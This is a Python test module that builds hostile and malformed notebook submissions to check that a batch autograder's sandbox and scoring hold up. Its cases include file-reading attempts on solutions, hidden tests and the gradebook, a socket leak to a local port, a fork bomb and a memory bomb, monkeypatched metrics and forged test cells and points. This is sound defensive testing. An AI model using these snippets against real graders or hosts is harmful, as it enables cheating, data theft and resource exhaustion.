"""A corpus of lab-02 submissions, bad in every way the batch grader must survive.

Each case is (student id, notebook bytes, expected status (a tuple: any of these) or
None for "any failure status", expected score or None for "less than full", and a text the grader's evidence
must contain: "BLOCKED" for what hostile code recorded, anything else for the checks'
messages). Hostile code goes into the first
answer cell (``describe_data``'s) so it runs early; it leaves what it managed to steal
in ``artifacts/stolen.txt``, which the grader keeps, so a test can prove it got nothing.
"""

import json
from pathlib import Path

from autograder.batch.corpus import honest, released_name, solution_sources, with_answers

LAB = "02-fashion-mnist-cnn"
FULL = 17.0  # the autograded points of lab 02; its written answer (2 more) waits for grading by hand


def _steal(target_expression: str, mode: str = "r") -> str:
    """Source that tries to open a path and records the outcome, then answers honestly."""
    return f"""
import os as _os
try:
    with open({target_expression}, "{mode}") as _stream:
        _stolen = "GOT " + (_stream.read(200) if "r" in "{mode}" else "write access")
except Exception as _error:
    _stolen = "BLOCKED " + type(_error).__name__
_os.makedirs("artifacts", exist_ok=True)
open("artifacts/stolen.txt", "w").write(str(_stolen))
""" + solution_sources(LAB)["cell-03"]


def _prefix(code: str) -> dict:
    """An otherwise honest submission whose first answer cell starts with ``code``."""
    return honest(LAB, **{"cell-03": code + "\n" + solution_sources(LAB)["cell-03"]})


def _bytes(notebook) -> bytes:
    return json.dumps(notebook).encode()


def _untrained_model_and(code: str) -> dict:
    """Honest functions, but the graded ``model`` is swapped for an untrained copy in the
    last answer cell (after training), which also runs ``code``."""
    last = solution_sources(LAB)["cell-20"]
    return honest(LAB, **{"cell-20": last + "\nmodel = keras.models.clone_model(model)\n" + code})


def cases(course, repo, port):
    """All corpus cases. ``course`` and ``repo`` are the paths hostile code targets."""
    solution_py = repo / "solutions" / LAB / "fashion_mnist_cnn.py"
    hidden_py = repo / "solutions" / LAB / "exercises.py"
    gradebook = course / "gradebook.db"
    other = course / "submitted" / "honest-a" / LAB / "fashion_mnist_cnn.ipynb"
    wrong_confusion = solution_sources(LAB)["cell-16"].replace("np.add.at(matrix, (np.asarray(y_true), np.asarray(y_pred)), 1)",
                                                              "np.add.at(matrix, (np.asarray(y_pred), np.asarray(y_true)), 1)")
    released = with_answers(LAB, {})
    tampered_tests = honest(LAB, **{"cell-16": wrong_confusion})
    for cell in tampered_tests["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["source"] = "pass\n"
    deleted_tests = honest(LAB, **{"cell-16": wrong_confusion})
    deleted_tests["cells"] = [cell for cell in deleted_tests["cells"] if not cell["metadata"].get("nbgrader", {}).get("grade")]
    reordered = honest(LAB)
    reordered["cells"] = reordered["cells"][::-1]
    duplicated = honest(LAB)
    duplicated["cells"] = duplicated["cells"] + [json.loads(json.dumps(duplicated["cells"][3]))]
    duplicated["cells"][-1]["source"] = "raise ValueError('second copy')"
    nbformat3 = honest(LAB)
    nbformat3["nbformat"] = 3
    return [
        # honest work, graded alongside to prove nobody else touches it
        ("honest-a", _bytes(honest(LAB)), "ok", FULL, None),
        ("honest-b", _bytes(honest(LAB, **{"cell-20": solution_sources(LAB)["cell-20"] + "\n# checked twice\n"})),
         "ok", FULL, None),
        ("partly-wrong", _bytes(honest(LAB, **{"cell-16": wrong_confusion})), "ok", FULL - 2, None),
        ("untouched", _bytes(released), "unanswered", 0.0, "no answer was given"),
        # isolation
        ("read-other-submission", _bytes(honest(LAB, **{"cell-03": _steal(repr(str(other)))})), "ok", FULL, "BLOCKED"),
        ("write-gradebook", _bytes(honest(LAB, **{"cell-03": _steal(repr(str(gradebook)), "ab")})), "ok", FULL, "BLOCKED"),
        ("read-solutions", _bytes(honest(LAB, **{"cell-03": _steal(repr(str(solution_py)))})), "ok", FULL, "BLOCKED"),
        ("read-hidden-tests", _bytes(honest(LAB, **{"cell-03": _steal(repr(str(hidden_py)))})), "ok", FULL, "BLOCKED"),
        ("read-git-history", _bytes(honest(LAB, **{"cell-03": _steal(repr(str(repo / ".git" / "HEAD")))})), "ok", FULL, "BLOCKED"),
        ("network", _bytes(_prefix(f"""
import os, socket
os.makedirs("artifacts", exist_ok=True)
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"leak")
    open("artifacts/stolen.txt", "w").write("GOT network")
except OSError as error:
    open("artifacts/stolen.txt", "w").write("BLOCKED " + type(error).__name__)
""")), "ok", FULL, "BLOCKED"),
        # resources
        # interrupted after the cell limit; the rest runs, but describe_data was never defined
        ("infinite-loop", _bytes(_prefix("while True:\n    pass")), "timeout", FULL - 1,
         "describe_data is not defined"),
        # over the memory limit: the kernel is stopped (a control group counts resident memory),
        # or, without control groups, the allocation fails and the rest of the notebook runs
        ("memory-bomb", _bytes(_prefix("import numpy\nblocks = [numpy.ones(1 << 28) for _ in range(64)]")), "out-of-memory",
         None, None),
        # which limit ends it depends on timing: the cell's time limit, or the process cap
        # leaving the kernel unable to start a thread (it dies)
        ("fork-bomb", _bytes(_prefix("import os, time\nwhile True:\n    try:\n        os.fork()\n"
                                     "    except OSError:\n        time.sleep(0.2)")), ("timeout", "kernel-died"), 0.0, None),
        ("enormous-output", _bytes(_prefix("import sys\nfor _ in range(200):\n    sys.stdout.write('x' * (1 << 20))")),
         "output-too-large", FULL, None),
        ("kills-its-kernel", _bytes(_prefix("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")), "kernel-died", 0.0, None),
        ("exits-midway", _bytes(honest(LAB, **{"cell-16": "import os\nos._exit(0)"})), "kernel-died", 0.0, None),
        # tamper-proof metrics
        ("monkeypatch-sklearn", _bytes(_untrained_model_and(
            "import sklearn.metrics\nsklearn.metrics.f1_score = lambda *a, **k: 1.0")), "ok", FULL - 4, None),
        ("monkeypatch-numpy-keras", _bytes(_untrained_model_and(
            "import numpy, keras\nnumpy.argmax = lambda *a, **k: 0\nkeras.Model.__call__ = lambda self, *a, **k: None")),
         "ok", FULL - 4, "below the threshold"),
        ("patch-checks-and-builtins", _bytes(_untrained_model_and(
            "import builtins, coursekit.checks\ncoursekit.checks.check_array = lambda *a, **k: None\n"
            "coursekit.checks.check_at_least = lambda *a, **k: None\nbuiltins.AssertionError = type('Nope', (Exception,), {})")),
         "ok", FULL - 4, None),
        ("lambda-layer-model", _bytes(honest(LAB, **{"cell-10": solution_sources(LAB)["cell-10"].replace(
            "    outputs = keras.layers.Dense(10, activation=\"softmax\")(x)",
            "    outputs = keras.layers.Lambda(lambda t: t)(keras.layers.Dense(10, activation=\"softmax\")(x))")})),
         "ok", FULL - 6, "only Keras's built-in layers"),
        ("swap-artifact-later", _bytes(_prefix("""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time, os\\ntime.sleep(60)\\nopen('artifacts/describe.json', 'w').write('{}')"],
                 start_new_session=True)""")), "ok", FULL, None),
        # notebooks
        ("tampered-test-cells", _bytes(tampered_tests), "tampered", FULL - 2, None),
        ("deleted-test-cells", _bytes(deleted_tests), "restructured", FULL - 2, None),
        ("reordered-cells", _bytes(reordered), "restructured", FULL, None),
        ("duplicated-cells", _bytes(duplicated), "restructured", FULL, None),
        ("invalid-json", b'{"cells": [', "invalid-notebook", 0.0, None),
        ("wrong-nbformat", _bytes(nbformat3), "invalid-notebook", 0.0, None),
        ("not-text", bytes(range(256)) * 4, "invalid-notebook", 0.0, None),
    ] + hardening_cases(course, repo)


SHARED_MARK = "course-corpus-shared-mark"
SHM_KEY = 0x5EED


def _forge_model_save(config_change: str) -> str:
    """Source that makes every model the probe saves a forged file with a changed config."""
    return f"""
import json as _json, zipfile as _zipfile, keras as _keras
_save = _keras.Model.save
def _forged_save(self, path, *args, **kwargs):
    _save(self, path, *args, **kwargs)
    with _zipfile.ZipFile(path) as _archive:
        _members = {{name: _archive.read(name) for name in _archive.namelist()}}
    _config = _json.loads(_members["config.json"])
    {config_change}
    _members["config.json"] = _json.dumps(_config)
    with _zipfile.ZipFile(path, "w") as _archive:
        for _name, _data in _members.items():
            _archive.writestr(_name, _data)
_keras.Model.save = _forged_save
"""


def _in_folder(files: dict):
    """A submission folder holding several files: {name: bytes, or a callable(path) that makes it}."""
    def make(folder):
        for name, content in files.items():
            content(folder / name) if callable(content) else (folder / name).write_bytes(content)
    return make


def hardening_cases(course, repo):
    """Issue 12's classes of defect: each must end with a status and a plain reason, and
    never end the batch, stall it, reach another submission, or refuse an honest answer."""
    import os

    sources = solution_sources(LAB)
    deep = honest(LAB)
    deep["metadata"] = {"nested": None}
    text = json.dumps(deep).replace('{"nested": null}', '{"a": ' * 50_000 + "1" + "}" * 50_000)
    null_metadata = honest(LAB)
    null_metadata["cells"][0]["metadata"] = None
    forged = honest(LAB)
    bonus = json.loads(json.dumps(forged["cells"][-1]))
    bonus["metadata"]["nbgrader"].update(grade_id="bonus", points=100, grade=True)
    bonus["source"] = "assert True"
    forged["cells"].append(bonus)
    for cell in forged["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "macro_f1":
            cell["metadata"]["nbgrader"]["points"] = 40
    helper_cell = honest(LAB, **{"cell-03": sources["cell-03"].replace("pixels = data.x_train.astype(np.float64)",
                                                                        "pixels = as_float(data.x_train)")})
    index = next(i for i, cell in enumerate(helper_cell["cells"]) if cell["metadata"]["nbgrader"]["grade_id"] == "cell-03")
    helper_cell["cells"].insert(index, {"cell_type": "code", "metadata": {}, "source": "def as_float(images):\n"
                                        "    return images.astype(np.float64)\n", "outputs": [], "execution_count": None})
    shared_writer = _prefix(f"""
import os, subprocess
for _folder in ("/dev/shm", "/var/tmp", "/run/lock", "/tmp"):
    try:
        open(os.path.join(_folder, "{SHARED_MARK}"), "w").write("left behind")
    except OSError:
        pass
subprocess.run(["ipcmk", "-M", "4096", "-k", "{SHM_KEY}"], capture_output=True)
""")
    copy = Path("/srv") / "course-copy-for-corpus" / "exercises.py"
    release = released_name(LAB)
    return [
        # 1. one submission never ends the batch
        ("forged-array-header", _bytes(honest(LAB, **{"cell-20": sources["cell-20"] + '''
import numpy, zipfile
def _forged_savez(path, **arrays):  # every answers file declares a 7 TiB array
    with zipfile.ZipFile(path, "w") as archive, archive.open("a0.npy", "w") as stream:
        numpy.lib.format.write_array_header_1_0(stream, {"descr": "<f8", "fortran_order": False, "shape": (1 << 20, 1 << 20)})
numpy.savez = _forged_savez
'''})), "ok", 0.0, "declare more than"),
        ("errors-not-json", _bytes(honest(LAB, **{"cell-20": sources["cell-20"] + "\nimport json\n"
                                                  "json.dump = lambda obj, stream, **kw: stream.write('{not json')\n"})),
         "ok", 0.0, "not valid JSON"),
        ("deeply-nested-metadata", text.encode(), "invalid-notebook", 0.0, "nested too deeply"),
        ("null-cell-metadata", _bytes(null_metadata), "restructured", FULL, "restored from the lab"),
        ("s" * 250, _bytes(honest(LAB, **{"cell-07": sources["cell-07"] + "\n# a student id as long as a file name\n"})),
         "ok", FULL, None),
        # 2. no stalls: links are never followed, special files never opened
        ("notebook-links-to-a-fifo", _in_folder({release: lambda path: (os.mkfifo(path.with_name("pipe")),
                                                                         path.symlink_to(path.with_name("pipe")))}),
         "invalid-notebook", 0.0, "links are refused"),
        ("notebook-links-to-the-solution", _in_folder({release: lambda path: path.symlink_to(
            repo / "solutions" / LAB / release)}), "invalid-notebook", 0.0, "links are refused"),
        # 3. isolation: shared places are private, nothing outside the allow-list is visible
        ("leaves-marks-in-shared-places", _bytes(shared_writer), "ok", FULL, None),
        ("read-a-copy-elsewhere", _bytes(honest(LAB, **{"cell-03": _steal(repr(str(copy)))})), "ok", FULL, "BLOCKED"),
        # 4. the grader's own resources
        ("model-declares-a-huge-layer", _bytes(_prefix(_forge_model_save(
            '_config["config"]["layers"][-1]["config"]["units"] = 10 ** 6; '
            '_config["config"]["layers"][-1]["build_config"]["input_shape"] = [None, 10 ** 5]'))),
         "ok", FULL - 8, "declares about"),
        ("model-past-the-file-size-limit", _bytes(honest(LAB, **{"cell-20": sources["cell-20"] + (
            "\nmodel = keras.Sequential([keras.Input((28, 28, 1)), keras.layers.Flatten(),"
            " keras.layers.Dense(30000), keras.layers.Dense(10, activation='softmax')])\n")})),
         "output-too-large", FULL - 4, "File too large"),
        # 5. no honest answer refused
        ("helper-in-an-added-cell", _bytes(helper_cell), "ok", FULL, None),
        ("extra-keys-in-a-dict", _bytes(honest(LAB, **{"cell-03": sources["cell-03"].replace(
            '"dtype": str(data.x_train.dtype),', '"dtype": str(data.x_train.dtype), "per_class": {"a": [1, 2]},')})),
         "ok", FULL, None),
        ("tf-softmax-and-loss-function", _bytes(honest(LAB, **{"cell-10": sources["cell-10"].replace(
            'keras.layers.Dense(10, activation="softmax"),', "keras.layers.Dense(10, activation=__import__('tensorflow').nn.softmax),"
        ).replace("    return keras.Model(inputs, outputs)", "    model = keras.Model(inputs, outputs)\n"
                  "    model.compile(loss=keras.losses.categorical_crossentropy, metrics=[keras.metrics.categorical_accuracy])\n"
                  "    return model")})), "ok", FULL, None),
        ("two-notebooks", _in_folder({"Untitled.ipynb": _bytes(with_answers(LAB, {})),
                                      "my-lab.ipynb": _bytes(honest(LAB))}), "ok", FULL, "not graded: Untitled.ipynb"),
        ("forged-bonus-and-points", _bytes(forged), "tampered", FULL, "is not part of the lab"),
    ]
